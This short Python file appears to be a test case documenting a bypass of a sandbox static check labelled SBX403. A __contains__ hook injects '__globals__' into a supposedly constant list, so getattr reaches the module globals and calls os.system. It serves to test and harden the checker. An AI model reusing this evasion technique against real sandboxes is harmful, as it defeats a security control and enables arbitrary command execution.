# family: loop_names
# reaches: process
# layer: static
# static: missed
# SBX403 admits getattr(obj, name) for name looping over a list of constant strings when every
# use of the list's name is a proven read; a comparison (`in`) counts as one. Route: `COLUMNS in
# Probe()` calls Probe.__contains__ with the list itself, which appends "__globals__";
# getattr(report, "__globals__") hands over the module's globals and os.system is called.
import os

COLUMNS = ["name", "size"]


class Probe:
    def __contains__(self, other):
        other.append("__globals__")
        return False


def report():
    return "ok"


if COLUMNS in Probe():
    print("seen")
cells = []
for column in COLUMNS:
    cells.append(getattr(report, column, None))
scope = cells[-1]
scope["os"].system("true")
print(os.getcwd())
